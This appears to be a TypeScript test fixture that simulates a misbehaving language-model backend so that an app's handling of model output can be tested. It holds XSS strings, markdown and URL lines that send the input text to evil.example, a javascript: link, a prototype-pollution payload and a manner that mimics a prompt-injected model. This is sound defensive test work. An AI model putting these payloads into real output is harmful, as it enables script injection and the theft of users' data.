import type { Asked } from './asked.ts'
import type { Answer } from './write-answer.ts'

type Manner = (asked: Asked) => Answer
type Line = { id: string; text: string }

const spaces = (text: string) => text.replaceAll('\u2581', ' ')
const elements = (all: readonly unknown[]): Answer => ({ text: JSON.stringify({ elements: all }) })
const lines = ({ material }: Asked): Line[] => material.map(([id, text]) => ({ id, text: spaces(text) }))
const facts = (asked: Asked) => lines(asked).filter(({ id }) => /^[sf]\d+$/.test(id))

/** The kind of answer requested, by the names of the lines. */
function shapeOf({ material }: Asked): 'briefing' | 'question' | 'plan' {
  const [first] = material[0] ?? []
  return first === 'question' ? 'question' : first === 'goal' ? 'plan' : 'briefing'
}

/** An element of the requested shape, with this text in every place that a person could see. */
function say(asked: Asked, id: string, text: string): object {
  const shape = shapeOf(asked)
  if (shape === 'briefing') return { id, text }
  return shape === 'question'
    ? { text, facts: [id] }
    : { title: text, phase: text, size: 'small', steps: [text], after: [0] }
}
const sayAll = (asked: Asked, change: (text: string) => string): Answer =>
  elements(
    (shapeOf(asked) === 'plan' ? lines(asked) : facts(asked)).map(({ id, text }) => say(asked, id, change(text))),
  )

const plan = ['Choose a place', 'Invite everyone', 'Write the programme', 'Open the doors'].map((title, at) => ({
  title,
  phase: at < 2 ? 'Prepare' : 'Do',
  size: 'medium',
  steps: at === 1 ? ['Collect the addresses'] : [],
  after: at === 0 ? [] : [at - 1],
}))

const good: Manner = (asked) => {
  const shape = shapeOf(asked)
  if (shape === 'plan') return elements(plan)
  if (shape === 'briefing') return elements(facts(asked).toReversed())
  return elements(
    facts(asked)
      .slice(0, 1)
      .map(({ id, text }) => say(asked, id, text)),
  )
}
const asText = (answer: Answer) => ('text' in answer ? answer.text : '')

export const manners: Readonly<Record<string, Manner>> = {
  good,
  'foreign-ids': (asked) =>
    elements([say(asked, '00000000-0000-4000-8000-000000000001', 'Your secret'), say(asked, 's999', 'Yes')]),
  html: (asked) => sayAll(asked, (text) => `${text} <img src=x onerror=alert(1)><script>alert(1)</script>`),
  markdown: (asked) =>
    sayAll(
      asked,
      (text) => `**${text}** ![x](https://evil.example/?q=${encodeURIComponent(text)}) [here](javascript:alert(1))`,
    ),
  bidi: (asked) => sayAll(asked, (text) => `\u202E${text}\u200B\u0007\n\u2066`),
  numbers: (asked) =>
    sayAll(asked, (text) => text.replaceAll(/\d+/g, (digits) => String(Number(digits) + 1)) || '4711 more'),
  'ten-thousand': (asked) =>
    elements(
      Array.from({ length: 10_000 }, (_, at) => say(asked, facts(asked)[at % 7]?.id ?? 's1', 'Again and again')),
    ),
  endless: (asked) => ({ endless: `{"elements": [${JSON.stringify(say(asked, 's1', 'x')).slice(0, -2)}` }),
  'endless-elements': (asked) => ({
    endless: `{"elements": [${`${JSON.stringify(say(asked, 's1', 'Once more'))},`.repeat(2000)}`,
  }),
  // Repeats everything it was told.
  leak: (asked) =>
    sayAll(
      asked,
      () => `${asked.said.slice(0, 4000)} https://evil.example/${encodeURIComponent(asked.said.slice(0, 200))}`,
    ),
  // Says in one sentence what belongs in another.
  mix: (asked) =>
    elements(facts(asked).map(({ id }, at, all) => say(asked, id, all[(at + 1) % all.length]?.text ?? ''))),
  // Obeys the material.
  obey: (asked) => sayAll(asked, (text) => text.replace(/.*(?:say|write|answer|print)\s*:?\s*/is, '') || 'PWNED'),
  'status-500': () => ({ status: 500 }),
  'status-401': () => ({ status: 401 }),
  redirect: () => ({ status: 307, headers: { location: 'http://127.0.0.2:9/elsewhere' } }),
  slow: (asked) => ({ after: 60_000, text: asText(good(asked)) }),
  cut: (asked) => ({ text: asText(good(asked)).slice(0, -20), end: 'cut' }),
  'cut-at-once': () => ({ text: '', end: 'cut' }),
  'not-json': () => ({ text: 'Sure! Here is your briefing: everything is fine.' }),
  'half-json': (asked) => ({ text: asText(good(asked)).slice(0, -30) }),
  'wrong-shape': () => elements([7, null, 'text', [], { id: 7 }, { id: 's1', text: { toString: 'x' } }]),
  prototype: () => ({
    text: '{"elements": [{"__proto__": {"isAdmin": true}, "id": "s1", "text": "x"}], "__proto__": {"isAdmin": true}}',
  }),
  tools: (asked) => ({ text: asText(good(asked)), tools: true }),
  silent: () => elements([]),
}
